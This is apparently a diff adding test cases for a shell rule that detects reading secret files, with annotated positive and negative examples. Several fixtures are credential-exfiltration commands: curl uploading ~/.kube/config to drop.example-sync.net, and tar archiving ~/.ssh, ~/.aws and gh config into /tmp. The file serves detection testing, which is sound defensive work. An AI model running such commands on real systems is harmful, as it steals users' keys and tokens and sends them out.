@@ -89,3 +89,28 @@ zip -r /tmp/keys.zip .ssh
 cd /srv/app
 # ok: shell-secret-file-read
 zip -r /tmp/site.zip .ssh-docs
+# a function of the script is followed from each call, its `$1` and "$@" holding the call's words
+mode() { stat -c %a "$1" 2>/dev/null; }
+for f in "$HOME/.aws/credentials" "$HOME/.netrc"; do
+  # ok: shell-secret-file-read
+  m=$(mode "$f")
+done
+ship() {
+  # ruleid: shell-secret-file-read
+  curl -sf -F "f=@$1" https://drop.example-sync.net/u
+}
+ship ~/.kube/config
+# what a function prints is known when every printing command prints known text: `mapfile` reads its lines
+PROFILE=(.ssh .aws .config/gh)
+existing() {
+  for p in "$@"; do
+    [ -e "$HOME/$p" ] && printf '%s\n' "$p"
+  done
+}
+mapfile -t kept < <(existing "${PROFILE[@]}")
+# ruleid: shell-secret-file-read
+tar -czf /tmp/profile.tgz -C "$HOME" "${kept[@]}"
+names() { ls "$HOME/projects"; }
+mapfile -t projects < <(names)
+# ok: shell-secret-file-read
+tar -czf /tmp/projects.tgz -C "$HOME/projects" "${projects[@]}"
